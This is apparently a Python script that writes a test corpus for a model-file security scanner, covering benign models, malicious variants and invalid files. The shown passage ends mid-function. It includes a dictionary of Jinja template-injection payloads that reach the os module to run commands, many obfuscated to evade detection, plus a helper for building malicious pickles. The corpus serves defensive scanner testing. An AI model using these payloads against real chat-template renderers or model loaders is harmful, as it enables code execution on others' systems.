"""Writes modelgate's scanner corpus: real benign models made by the real libraries (scikit-learn,
numpy, scipy, joblib, h5py, Keras, ONNX, gguf, safetensors, xgboost, LightGBM; PyTorch's checkpoint
layout written by the same code path torch.save uses, with torch's globals stood in by name), the
malicious variants of every class of issue 15, and invalid files a scanner must refuse.

Nothing here loads a model or runs a payload: malicious pickles are assembled opcode by opcode
(pickle_asm.py) or pickled from stand-in objects whose __reduce__ names the target; nothing is
unpickled. Run through scripts/scan-corpus/run.sh (a cached virtualenv with pinned versions):

    bash scripts/scan-corpus/run.sh OUT_DIR

OUT_DIR gets benign/, malicious/, invalid/ and CORPUS.md (the table of expected verdicts) plus
manifest.json (sha256 of every file, and whether the bytes are reproducible across machines).
"""

import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib
from collections import OrderedDict

os.environ.setdefault("KERAS_BACKEND", "numpy")
os.environ.setdefault("OMP_NUM_THREADS", "1")
os.environ.setdefault("OPENBLAS_NUM_THREADS", "1")

import numpy as np  # noqa: E402

sys.path.insert(0, os.path.dirname(__file__))
import pickle_asm as pa  # noqa: E402
from pickle_asm import call  # noqa: E402

OUT = sys.argv[1] if len(sys.argv) > 1 else "corpus-out"
ROWS: list[tuple[str, str, str, bool]] = []  # (path, class, expectation, stable)
FIXED_DATE = (2024, 1, 1, 0, 0, 0)


def write(kind: str, name: str, data: bytes, cls: str, expect: str, stable: bool = True) -> None:
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    ROWS.append((f"{kind}/{name}", cls, expect, stable))


def zip_bytes(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compress) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
            info.compress_type = compress
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def normalise_zip(data: bytes) -> bytes:
    """Rewrite a zip written by a library with fixed timestamps, keeping member order and compression."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for info in src.infolist():
            new = zipfile.ZipInfo(info.filename, date_time=FIXED_DATE)
            new.compress_type = info.compress_type
            new.external_attr = info.external_attr
            z.writestr(new, src.read(info.filename))
    return buf.getvalue()


def tar_bytes(members: list[tuple[str, bytes, bytes]], fmt: int = tarfile.GNU_FORMAT) -> bytes:
    """members: (name, data, typeflag)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, data, typ in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1704067200
            info.type = typ
            info.mode = 0o644
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# --- stand-ins: objects whose pickles name a global without importing or calling it -------------------


def stand_in(qualified: str):
    """A function object that pickles as GLOBAL module.name (registered in fake modules if needed)."""
    module, _, name = qualified.rpartition(".")
    try:
        mod = __import__(module, fromlist=["_"]) if module not in FAKE_ROOTS else None
    except ImportError:
        mod = None
    if mod is None or not hasattr(mod, name):
        parts = module.split(".")
        for i in range(1, len(parts) + 1):
            path = ".".join(parts[:i])
            if path not in sys.modules or path.split(".")[0] in FAKE_ROOTS:
                m = sys.modules.get(path) if path.split(".")[0] in FAKE_ROOTS else None
                if m is None:
                    m = types.ModuleType(path)
                    sys.modules[path] = m
                    FAKE_ROOTS.add(parts[0])
                if i > 1:
                    setattr(sys.modules[".".join(parts[: i - 1])], parts[i - 1], m)
        mod = sys.modules[module]
        if not hasattr(mod, name):

            def f(*a, **k):  # never called
                raise RuntimeError("stand-in called")

            f.__module__ = module
            f.__qualname__ = name
            f.__name__ = name
            setattr(mod, name, f)
    return getattr(mod, name)


FAKE_ROOTS: set[str] = {"torch"}


class Payload:
    """Pickles as `target(*args)`; pickling does not call target."""

    def __init__(self, target: str, *args):
        self.target, self.args = target, args

    def __reduce__(self):
        return (stand_in(self.target), self.args)


# ======================================================================================================
# benign models, real libraries
# ======================================================================================================


def sklearn_models():
    import warnings

    warnings.filterwarnings("ignore")
    from sklearn import (
        cluster,
        compose,
        decomposition,
        ensemble,
        feature_extraction,
        gaussian_process,
        impute,
        linear_model,
        naive_bayes,
        neighbors,
        neural_network,
        pipeline,
        preprocessing,
        svm,
        tree,
    )
    from sklearn.datasets import make_classification, make_regression

    X, y = make_classification(n_samples=120, n_features=8, n_informative=4, random_state=0)
    Xr, yr = make_regression(n_samples=120, n_features=8, random_state=0)
    texts = ["the cat sat", "the dog ran", "a cat ran", "dogs and cats", "the end"] * 4
    ty = [0, 1, 0, 1, 0] * 4
    cat = np.array([["red", "s"], ["blue", "m"], ["green", "l"], ["red", "m"]] * 10, dtype=object)
    caty = [0, 1, 0, 1] * 10
    models = {
        "logistic_regression": (linear_model.LogisticRegression(max_iter=300), X, y),
        "decision_tree": (tree.DecisionTreeClassifier(max_depth=4, random_state=0), X, y),
        "random_forest": (ensemble.RandomForestClassifier(n_estimators=5, max_depth=3, random_state=0), X, y),
        "gradient_boosting": (ensemble.GradientBoostingClassifier(n_estimators=5, random_state=0), X, y),
        "hist_gradient_boosting": (ensemble.HistGradientBoostingRegressor(max_iter=5, random_state=0), Xr, yr),
        "svc": (svm.SVC(probability=False), X, y),
        "knn_kdtree": (neighbors.KNeighborsClassifier(algorithm="kd_tree"), X, y),
        "knn_balltree": (neighbors.KNeighborsClassifier(algorithm="ball_tree"), X, y),
        "kmeans": (cluster.KMeans(n_clusters=3, n_init=2, random_state=0), X, None),
        "pca": (decomposition.PCA(n_components=3), X, None),
        "standard_scaler": (preprocessing.StandardScaler(), X, None),
        "pipeline_scaler_lr": (pipeline.make_pipeline(preprocessing.StandardScaler(), linear_model.LogisticRegression()), X, y),
        "tfidf_linear_svc": (pipeline.make_pipeline(feature_extraction.text.TfidfVectorizer(), svm.LinearSVC()), texts, ty),
        "column_transformer_onehot": (
            pipeline.make_pipeline(
                compose.ColumnTransformer([("oh", preprocessing.OneHotEncoder(handle_unknown="ignore"), [0, 1])]),
                linear_model.LogisticRegression(),
            ),
            cat,
            caty,
        ),
        "mlp": (neural_network.MLPClassifier(hidden_layer_sizes=(8,), max_iter=50, random_state=0), X, y),
        "ridge": (linear_model.Ridge(), Xr, yr),
        "lasso": (linear_model.Lasso(), Xr, yr),
        "gaussian_nb": (naive_bayes.GaussianNB(), X, y),
        "isolation_forest": (ensemble.IsolationForest(n_estimators=5, random_state=0), X, None),
        "extra_trees": (ensemble.ExtraTreesRegressor(n_estimators=5, max_depth=3, random_state=0), Xr, yr),
        "adaboost": (ensemble.AdaBoostClassifier(n_estimators=5, random_state=0), X, y),
        "sgd_classifier": (linear_model.SGDClassifier(random_state=0), X, y),
        "gaussian_process": (gaussian_process.GaussianProcessRegressor(random_state=0), Xr[:30], yr[:30]),
        "simple_imputer": (impute.SimpleImputer(), X, None),
        "spline_transformer": (preprocessing.SplineTransformer(), X, None),
        "label_encoder": (preprocessing.LabelEncoder(), ["a", "b", "c", "a"], None),
        "truncated_svd": (decomposition.TruncatedSVD(n_components=2, random_state=0), X, None),
        "count_vectorizer_nb": (pipeline.make_pipeline(feature_extraction.text.CountVectorizer(), naive_bayes.MultinomialNB()), texts, ty),
        "birch": (cluster.Birch(n_clusters=2), X, None),
    }
    out = {}
    for name, (m, a, b) in models.items():
        m.fit(a) if b is None else m.fit(a, b)
        out[name] = m
    return out


def write_benign_sklearn():
    import joblib

    models = sklearn_models()
    for name, m in models.items():
        buf = io.BytesIO()
        joblib.dump(m, buf)
        write("benign", f"sklearn/{name}.joblib", buf.getvalue(), "sklearn", f"CLEAN: scikit-learn {type(m).__name__} saved with joblib.dump", stable=False)
    # plain pickle in every protocol, odd names (content decides)
    for i, (name, proto, fname) in enumerate(
        [
            ("logistic_regression", 0, "model.pkl"),
            ("decision_tree", 2, "tree.sav"),
            ("pipeline_scaler_lr", 4, "pipeline.model"),
            ("random_forest", 5, "forest.p"),
            ("kmeans", 1, "kmeans"),
            ("svc", 3, "svc.bin"),
            ("column_transformer_onehot", 5, "encoder.pickle"),
        ]
    ):
        write("benign", f"sklearn-pickle/{fname}", pickle.dumps(models[name], protocol=proto), "sklearn", f"CLEAN: {type(models[name]).__name__} pickled with protocol {proto}", stable=False)
    # joblib compressors (zlib, gzip, bz2, lzma-alone, xz, lz4)
    for comp in ["zlib", "gzip", "bz2", "lzma", "xz", "lz4"]:
        buf = io.BytesIO()
        joblib.dump(models["random_forest"], buf, compress=(comp, 3))
        write("benign", f"sklearn-compressed/forest.{comp}.joblib", buf.getvalue(), "compression", f"CLEAN: RandomForestClassifier, joblib compress={comp}", stable=False)


def write_benign_numpy():
    rng = np.random.default_rng(0)
    arrays = {
        "float32.npy": rng.standard_normal((16, 8)).astype(np.float32),
        "int64.npy": np.arange(100, dtype=np.int64),
        "bigendian.npy": np.arange(10, dtype=">f8"),
        "fortran.npy": np.asfortranarray(np.arange(12, dtype=np.int16).reshape(3, 4)),
        "structured.npy": np.array([(1, 2.0, b"ab")], dtype=[("a", "<i4"), ("b", "<f8"), ("c", "S2")]),
        "strings.npy": np.array(["alpha", "beta"], dtype="U8"),
        "scalar.npy": np.float64(3.5),
        "bool.npy": np.array([True, False]),
    }
    for name, a in arrays.items():
        buf = io.BytesIO()
        np.save(buf, a)
        write("benign", f"numpy/{name}", buf.getvalue(), "numpy", f"CLEAN: np.save of a {np.asarray(a).dtype} array")
    big = io.BytesIO()
    np.lib.format.write_array(big, np.arange(4, dtype=np.uint8), version=(2, 0))
    write("benign", "numpy/format2.npy", big.getvalue(), "numpy", "CLEAN: .npy format 2.0 header")
    # object array of strings: a pickle of allowlisted numpy globals only
    buf = io.BytesIO()
    np.save(buf, np.array(["x", None, 1.5], dtype=object), allow_pickle=True)
    write("benign", "numpy/object_strings.npy", buf.getvalue(), "numpy", "CLEAN: object array (str, None, float) — its pickle uses only numpy reconstruction")
    buf = io.BytesIO()
    np.save(buf, np.array(["a", "bb"], dtype=np.dtypes.StringDType()), allow_pickle=True)
    write("benign", "numpy/stringdtype.npy", buf.getvalue(), "numpy", "CLEAN: StringDType array (a pickle of numpy's StringDType constructor)")
    for fn, comp in [("arrays.npz", np.savez), ("arrays_compressed.npz", np.savez_compressed)]:
        buf = io.BytesIO()
        comp(buf, w=rng.standard_normal((4, 4)), b=np.zeros(4))
        write("benign", f"numpy/{fn}", normalise_zip(buf.getvalue()), "numpy", f"CLEAN: np.{comp.__name__}")
    import scipy.sparse as sp

    m = sp.random(20, 20, density=0.1, format="csr", random_state=0)
    write("benign", "numpy/sparse_csr.pkl", pickle.dumps(m, protocol=4), "sklearn", "CLEAN: scipy.sparse csr_matrix pickled", stable=False)
    write("benign", "numpy/sparse_csc.pkl", pickle.dumps(sp.csc_array(m), protocol=2), "sklearn", "CLEAN: scipy.sparse csc_array pickled", stable=False)


def write_benign_boosters():
    import joblib
    import lightgbm
    import xgboost
    from sklearn.datasets import make_classification

    X, y = make_classification(n_samples=100, n_features=5, random_state=0)
    xg = xgboost.XGBClassifier(n_estimators=3, max_depth=2, random_state=0, n_jobs=1).fit(X, y)
    lg = lightgbm.LGBMClassifier(n_estimators=3, num_leaves=4, random_state=0, verbose=-1, n_jobs=1).fit(X, y)
    for name, m in [("xgboost_classifier", xg), ("lightgbm_classifier", lg)]:
        buf = io.BytesIO()
        joblib.dump(m, buf)
        write("benign", f"boosters/{name}.joblib", buf.getvalue(), "sklearn", f"CLEAN: {type(m).__name__} (Booster state is a model buffer its native parser reads)", stable=False)


# --- PyTorch layout: torch.save's own writer with torch's classes stood in by name --------------------


class _Storage:
    def __init__(self, key: str, dtype_name: str, numel: int):
        self.key, self.dtype_name, self.numel = key, dtype_name, numel


class _Tensor:
    def __init__(self, storage: _Storage, size: tuple, stride: tuple):
        self.storage, self.size, self.stride = storage, size, stride

    def __reduce_ex__(self, proto):
        return (stand_in("torch._utils._rebuild_tensor_v2"), (self.storage, 0, self.size, self.stride, False, OrderedDict()))


class _Parameter:
    def __init__(self, t: _Tensor):
        self.t = t

    def __reduce_ex__(self, proto):
        return (stand_in("torch._utils._rebuild_parameter"), (self.t, True, OrderedDict()))


def torch_state_dict(n_layers: int = 2, param: bool = False):
    storages = []
    sd = OrderedDict()
    for i in range(n_layers):
        for part, shape in [("weight", (4, 4)), ("bias", (4,))]:
            st = _Storage(str(len(storages)), "FloatStorage", int(np.prod(shape)))
            storages.append(st)
            stride = (shape[1], 1) if len(shape) == 2 else (1,)
            t = _Tensor(st, shape, stride)
            sd[f"layers.{i}.{part}"] = _Parameter(t) if param else t
    return sd, storages


def torch_pickle(obj, storages_out: list) -> bytes:
    buf = io.BytesIO()
    p = pickle.Pickler(buf, protocol=2)

    def persistent_id(o):
        if isinstance(o, _Storage):
            storages_out.append(o)
            return ("storage", stand_in(f"torch.{o.dtype_name}"), o.key, "cpu", o.numel)
        return None

    p.persistent_id = persistent_id
    p.dump(obj)
    return buf.getvalue()


def torch_zip(obj, name: str = "archive", data_pkl: bytes | None = None) -> bytes:
    storages: list = []
    pkl = data_pkl if data_pkl is not None else torch_pickle(obj, storages)
    members = [(f"{name}/data.pkl", pkl), (f"{name}/byteorder", b"little")]
    seen = set()
    for s in storages:
        if s.key in seen:
            continue
        seen.add(s.key)
        members.append((f"{name}/data/{s.key}", np.zeros(s.numel, dtype=np.float32).tobytes()))
    members += [(f"{name}/version", b"3\n"), (f"{name}/.data/serialization_id", b"0123456789012345678901234567890123456789")]
    return zip_bytes(members)


def torch_legacy(obj) -> bytes:
    storages: list = []
    buf = io.BytesIO()
    for part in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}):
        pickle.dump(part, buf, protocol=2)
    buf.write(torch_pickle(obj, storages))
    keys = sorted({s.key for s in storages}, key=int)
    pickle.dump(keys, buf, protocol=2)
    for k in keys:
        s = next(x for x in storages if x.key == k)
        buf.write(struct.pack("<q", s.numel) + np.zeros(s.numel, dtype=np.float32).tobytes())
    return buf.getvalue()


def write_benign_torch():
    sd, _ = torch_state_dict()
    write("benign", "torch/pytorch_model.bin", torch_zip(sd), "torch", "CLEAN: torch.save layout (zip): state dict of _rebuild_tensor_v2 tensors")
    write("benign", "torch/model.pt", torch_zip(torch_state_dict(3, param=True)[0], name="model"), "torch", "CLEAN: torch.save layout, Parameters (_rebuild_parameter)")
    write("benign", "torch/checkpoint.pth", torch_zip({"epoch": 3, "state_dict": sd, "lr": 0.01}), "torch", "CLEAN: training checkpoint dict in torch.save layout")
    write("benign", "torch/legacy.pt", torch_legacy(sd), "torch", "CLEAN: legacy torch.save (five pickles, raw storages)")
    write("benign", "torch/weights", torch_zip(sd), "torch", "CLEAN: torch.save layout with no file extension")
    write(
        "benign",
        "torch/model-dir.tar",
        tar_bytes([("model/config.json", b'{"model_type": "mlp"}', tarfile.REGTYPE), ("model/pytorch_model.bin", torch_zip(sd), tarfile.REGTYPE)]),
        "tar",
        "CLEAN: tar whose last member is a torch checkpoint (not a polyglot)",
    )


def write_benign_formats():
    # safetensors
    from safetensors.numpy import save

    st = save({"w": np.ones((4, 4), dtype=np.float32), "b": np.zeros(4, dtype=np.float16)}, metadata={"format": "pt"})
    write("benign", "formats/model.safetensors", st, "safetensors", "CLEAN: safetensors.numpy.save")
    write("benign", "formats/model-00001-of-00002.safetensors", save({"x": np.arange(8, dtype=np.int32)}), "safetensors", "CLEAN: safetensors shard")
    # ONNX
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), "w")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"]), helper.make_node("Relu", ["y"], ["z"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("z", TensorProto.FLOAT, [1, 2])],
        [w],
    )
    model = helper.make_model(graph, producer_name="modelgate-corpus", opset_imports=[helper.make_opsetid("", 17)])
    data = model.SerializeToString()
    write("benign", "formats/model.onnx", data, "onnx", "CLEAN: ONNX MatMul+Relu")
    write("benign", "formats/onnx-no-extension", data, "onnx", "CLEAN: ONNX recognised by content, no extension")
    ext = onnx.ModelProto()
    ext.CopyFrom(model)
    t = ext.graph.initializer[0]
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    t.external_data.add(key="location", value="weights.bin")
    write("benign", "formats/external.onnx", ext.SerializeToString(), "onnx", "CLEAN: ONNX with external data in the model directory")
    # GGUF
    import gguf

    for name, tpl in BENIGN_TEMPLATES.items():
        write("benign", f"gguf/{name}.gguf", gguf_bytes({"tokenizer.chat_template": tpl}), "gguf", f"CLEAN: GGUF with the {name} chat template")
    write("benign", "gguf/plain.gguf", gguf_bytes({}), "gguf", "CLEAN: GGUF without a chat template")
    del gguf
    # Keras 3 (numpy backend): .keras archive, legacy .h5, weights .h5
    write_keras_benign()
    # TensorFlow protobufs (GraphDef / SavedModel built from the tensorboard copies of TF's protos)
    write("benign", "tf/saved_model.pb", saved_model_bytes([("x", "Placeholder"), ("w", "VarHandleOp"), ("y", "MatMul"), ("save", "SaveV2"), ("restore", "RestoreV2")]), "tf", "CLEAN: SavedModel with ordinary ops (incl. SaveV2/RestoreV2)")
    write("benign", "tf/frozen_graph.pb", graph_def_bytes([("x", "Placeholder"), ("c", "Const"), ("y", "Add")]), "tf", "CLEAN: frozen GraphDef")
    write("benign", "tf/saved_model.pbtxt", saved_model_text([("x", "Placeholder"), ("y", "Relu")]), "tf", "CLEAN: SavedModel in text format")
    dense = {"class_name": "Dense", "name": "d", "config": {"name": "d", "units": 2, "activation": "relu"}}
    write("benign", "tf/keras_metadata.pb", keras_metadata([dense]), "tf", "CLEAN: keras_metadata.pb of a SavedModel (Dense layer)")


def write_benign_text():
    vocab = "\n".join(["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"] + [f"word{i}" for i in range(200)] + ["cos", "system", "the", "##ing"]) + "\n"
    write("benign", "text/vocab.txt", vocab.encode(), "text", "CLEAN: BERT-style vocabulary")
    write("benign", "text/vocab-words.txt", b"cat\ndog\ncos\nsystem\nexec\n(\nR\n.\n", "text", "CLEAN: word list whose lines look like pickle opcodes")
    write("benign", "text/merges.txt", b"#version: 0.2\n\xc4\xa0 t\n\xc4\xa0 a\nh e\ni n\n", "text", "CLEAN: BPE merges")
    tok = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [{"id": 0, "content": "<s>", "special": True}], "model": {"type": "BPE", "vocab": {"<s>": 0, "a": 1, "b": 2}, "merges": ["a b"]}}
    write("benign", "text/tokenizer.json", json.dumps(tok, indent=2).encode(), "text", "CLEAN: tokenizers JSON")
    cfg = {"bos_token": "<s>", "eos_token": "</s>", "chat_template": BENIGN_TEMPLATES["chatml"], "model_max_length": 2048}
    write("benign", "text/tokenizer_config.json", json.dumps(cfg, indent=2).encode(), "text", "CLEAN: tokenizer_config.json with a chat template")
    write("benign", "text/config.json", json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "torch_dtype": "float32"}).encode(), "text", "CLEAN: transformers config.json")
    write("benign", "text/README.md", b"---\nlicense: apache-2.0\n---\n# Model\n\nLoad with `pickle.load` never; use safetensors. Example: `os.system` is not called.\n", "text", "CLEAN: model card")
    write("benign", "text/LICENSE", b"MIT License\n\nCopyright (c) 2024\n", "text", "CLEAN: licence text")
    write("benign", "text/notes.txt", b"cos\nsystem\nThese lines look like a GLOBAL opcode but nothing follows.\n", "text", "CLEAN: text starting with a pickle-like GLOBAL line (an import that pickle.load would make, then fail; nothing called)")
    write("benign", "text/special_tokens_map.json", b'{"bos_token": "<s>", "eos_token": "</s>"}', "text", "CLEAN: special tokens map")
    write("benign", "text/spiece.vocab", b"<unk>\t0\n<s>\t0\n</s>\t0\n\xe2\x96\x81the\t-3.1\n", "text", "CLEAN: sentencepiece vocabulary")
    write("benign", "text/.gitattributes", b"*.bin filter=lfs diff=lfs merge=lfs -text\n", "text", "CLEAN: gitattributes")


# --- chat templates (benign: as published with the models; the comment one must not be flagged) -------

BENIGN_TEMPLATES = {
    "chatml": "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
    "llama3": "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}",
    "mistral": "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}",
    "gemma": "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}",
    "zephyr": "{% for message in messages %}\n{% if message['role'] == 'user' %}\n{{ '<|user|>\\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'system' %}\n{{ '<|system|>\\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'assistant' %}\n{{ '<|assistant|>\\n'  + message['content'] + eos_token }}\n{% endif %}\n{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n{% endfor %}",
    "tools": "{%- set ns = namespace(found=false) -%}{%- for message in messages -%}{%- if message.role == 'system' -%}{%- set ns.found = true -%}{%- endif -%}{%- endfor -%}{%- if tools is defined and tools -%}{{ '<tools>' }}{%- for tool in tools -%}{{ tool | tojson }}{%- for param_name, param in tool.parameters.properties.items() -%}{{ param_name }}: {{ tool.parameters.properties[param_name].type }}{%- endfor -%}{%- endfor -%}{{ '</tools>' }}{%- endif -%}{%- for message in messages[ns.found|int:] -%}{{ '<|im_start|>' + message.role + '\\n' }}{%- if message.content is string -%}{{ message.content }}{%- else -%}{%- for part in message.content -%}{%- if part.type == 'text' -%}{{ part.text }}{%- endif -%}{%- endfor -%}{%- endif -%}{%- if message.tool_calls is defined -%}{%- for call in message.tool_calls -%}{{ '<tool_call>' + (call.function | tojson) + '</tool_call>' }}{%- endfor -%}{%- endif -%}{{ '<|im_end|>\\n' }}{%- endfor -%}{%- if add_generation_prompt -%}{{ '<|im_start|>assistant\\n' }}{%- endif -%}",
    "dated": "{{- bos_token }}{%- if not date_string is defined %}{%- set date_string = strftime_now('%d %b %Y') %}{%- endif %}{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}{%- set messages = messages[1:] %}{%- else %}{%- set system_message = '' %}{%- endif %}{{- 'Today Date: ' + date_string + '\\n\\n' + system_message }}{%- for message in messages %}{{- message['role'] | upper + ': ' + message['content'] | replace('\\r', '') + '\\n' }}{%- endfor %}",
    "comment-mentions-exec": "{# Security: never call exec( or eval( on message text; __class__ lookups are unsafe. #}" + "{% for message in messages %}{{ message['role'] + ': ' + message['content'] + '\\n' }}{% endfor %}",
    "macro": "{% macro render(m) %}{{ m['role'] }}: {{ m['content'] }}{% endmacro %}{% for message in messages %}{{ render(message) }}\n{% endfor %}",
}

MALICIOUS_TEMPLATES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "cycler-init": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "attr-hex-escape": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}{% for m in messages %}{{ m.content }}{% endfor %}",
    "attr-unicode-escape": "{{ lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f') }}",
    "concat-plus": "{{ ''['__cla' + 'ss__'] }}",
    "concat-tilde": "{{ lipsum['__glob' ~ 'als__']['os'].popen('id').read() }}",
    "set-split": "{% set a = '__glo' %}{% set b = 'bals__' %}{{ lipsum[a ~ b]['os'].system('id') }}",
    "format-underscore": "{% set u = '%c'|format(95) %}{{ lipsum|attr(u*2 ~ 'globals' ~ u*2) }}",
    "join-list": "{{ lipsum|attr(['_','_','globals','_','_']|join) }}",
    "map-attribute": "{{ [lipsum]|map(attribute='__globals__')|list }}",
    "string-format-leak": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "reverse-slice": "{{ lipsum|attr('__slabolg__'[::-1]) }}",
    "replace-filter": "{{ lipsum|attr('XXglobalsXX'|replace('X','_')) }}",
    "loop-constant": "{% for k in ['__globals__'] %}{{ lipsum[k]['os'].popen('id').read() }}{% endfor %}",
    "private-attr": "{{ self._TemplateReference__context }}",
    "namespace-init": "{{ namespace.__init__.__globals__['os'].system('id') }}",
    "joiner-init": "{{ joiner.__init__.__globals__.__builtins__['__import__']('os').system('id') }}",
    "in-benign-chatml": BENIGN_TEMPLATES["chatml"] + "{{ cycler.__init__.__globals__.os.system('id') }}",
    "request-attr": "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
}


def gguf_bytes(kv: dict[str, str], arrays: dict[str, list[str]] | None = None) -> bytes:
    import tempfile

    import gguf

    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "m.gguf")
        w = gguf.GGUFWriter(path, "llama")
        w.add_block_count(1)
        for k, v in kv.items():
            w.add_string(k, v)
        for k, v in (arrays or {}).items():
            w.add_array(k, v)
        w.add_tensor("tok_embd.weight", np.zeros((4, 8), dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        with open(path, "rb") as f:
            return f.read()


# --- Keras ----------------------------------------------------------------------------------------


def keras_model():
    import keras

    keras.utils.set_random_seed(0)
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="relu", name="d1"), keras.layers.Dense(2, name="d2")])


def stable_ids(config: dict) -> dict:
    """Keras writes id() of shared objects into configs; number them in order of appearance instead."""
    ids: dict[int, int] = {}

    def walk(o):
        if isinstance(o, dict):
            for k, v in o.items():
                if k == "shared_object_id" and isinstance(v, int):
                    o[k] = ids.setdefault(v, len(ids) + 1)
                else:
                    walk(v)
        elif isinstance(o, list):
            for v in o:
                walk(v)

    walk(config)
    return config


def keras_archive(config: dict | None = None, only_config: bool = False) -> bytes:
    """A .keras zip; the model's real config unless `config` replaces it."""
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "m.keras")
        keras_model().save(p)
        z = zipfile.ZipFile(p)
        members = {n: z.read(n) for n in z.namelist()}
    meta = json.loads(members["metadata.json"])
    meta["date_saved"] = "2024-01-01@00:00:00"
    members["metadata.json"] = json.dumps(meta).encode()
    members["config.json"] = json.dumps(stable_ids(config if config is not None else json.loads(members["config.json"]))).encode()
    if only_config:
        members = {"config.json": members["config.json"]}
    return zip_bytes(list(members.items()))


def keras_config() -> dict:
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "m.keras")
        keras_model().save(p)
        return stable_ids(json.loads(zipfile.ZipFile(p).read("config.json")))


def keras_h5(patch=None) -> bytes:
    """Legacy HDF5 save; `patch(config_json_text) -> text` rewrites the model_config attribute."""
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "m.h5")
        keras_model().save(p)
        if patch is not None:
            with h5py.File(p, "r+") as f:
                cfg = f.attrs["model_config"]
                text = cfg.decode() if isinstance(cfg, bytes) else cfg
                f.attrs["model_config"] = patch(text)
        with open(p, "rb") as f:
            return f.read()


def write_keras_benign():
    import tempfile

    write("benign", "keras/model.keras", keras_archive(), "keras", "CLEAN: Keras 3 .keras archive (Dense layers)")
    write("benign", "keras/model.h5", keras_h5(), "keras", "CLEAN: Keras legacy HDF5 save", stable=False)
    write("benign", "keras/config-only.keras", keras_archive(only_config=True), "keras", "CLEAN: .keras holding only config.json (Dense layers)")
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "m.weights.h5")
        keras_model().save_weights(p)
        with open(p, "rb") as f:
            write("benign", "keras/model.weights.h5", f.read(), "keras", "CLEAN: Keras weights-only HDF5", stable=False)


# --- TensorFlow protobufs ---------------------------------------------------------------------------


def node_defs(nodes):
    from tensorboard.compat.proto import node_def_pb2

    out = []
    for name, op in nodes:
        n = node_def_pb2.NodeDef(name=name, op=op)
        out.append(n)
    return out


def graph_def_bytes(nodes) -> bytes:
    from tensorboard.compat.proto import graph_pb2

    g = graph_pb2.GraphDef()
    g.node.extend(node_defs(nodes))
    g.versions.producer = 1882
    return g.SerializeToString()


def meta_graph(nodes, functions=None):
